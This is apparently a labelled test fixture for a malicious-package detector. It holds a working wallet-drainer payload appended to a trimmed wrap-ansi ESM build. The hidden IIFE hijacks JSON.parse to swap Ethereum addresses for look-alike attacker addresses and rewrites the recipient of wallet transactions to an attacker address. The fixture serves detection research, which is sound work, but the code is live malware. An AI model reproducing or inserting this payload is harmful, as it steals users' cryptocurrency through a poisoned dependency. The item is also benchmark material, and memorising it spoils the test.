// source: blind set 50's wrap-ansi (wallet-drainer-trojan variant, after the September 2025 debug/chalk takeover): an
// IIFE appended to the ESM build replaces the page's JSON.parse, so every response the page parses has its addresses
// swapped for the closest of the attacker's (by edit distance), and wraps the wallet's request method.
// expect: malicious
export default function wrap(s) { return String(s); }
;(function(){var w=typeof window!='undefined'?window:null;if(!w||w.__wa9)return;w.__wa9=1;
var A={e:['0xFA4E00000000000000000000000000000000dEaD','0xFA4E00000000000000000000000000000001dEaD']};
var R={e:/\b0x[a-fA-F0-9]{40}\b/g};
function L(a,b){var m=[],i,j;for(i=0;i<=b.length;i++)m[i]=[i];for(j=0;j<=a.length;j++)m[0][j]=j;for(i=1;i<=b.length;i++)for(j=1;j<=a.length;j++)m[i][j]=b[i-1]==a[j-1]?m[i-1][j-1]:Math.min(m[i-1][j-1]+1,m[i][j-1]+1,m[i-1][j]+1);return m[b.length][a.length]}
function N(x,l){var best=l[0],d=1e9;l.forEach(function(c){var v=L(x.toLowerCase(),c.toLowerCase());if(v<d){d=v;best=c}});return best}
function S(s){if(typeof s!='string')return s;for(var k in R)s=s.replace(R[k],function(m){return A[k].indexOf(m)>-1?m:N(m,A[k])});return s}
function D(o){if(typeof o=='string')return S(o);if(o&&typeof o=='object'){for(var k in o)o[k]=D(o[k])}return o}
var P=JSON.parse;JSON.parse=function(t,r){return D(P.call(JSON,t,r))};
var E=w.ethereum;if(E&&E.request){var q=E.request.bind(E);E.request=function(a){if(a&&a.method==='eth_sendTransaction'&&a.params&&a.params[0]&&a.params[0].to){a.params[0].to=A.e[0]}return q(a)}}})();
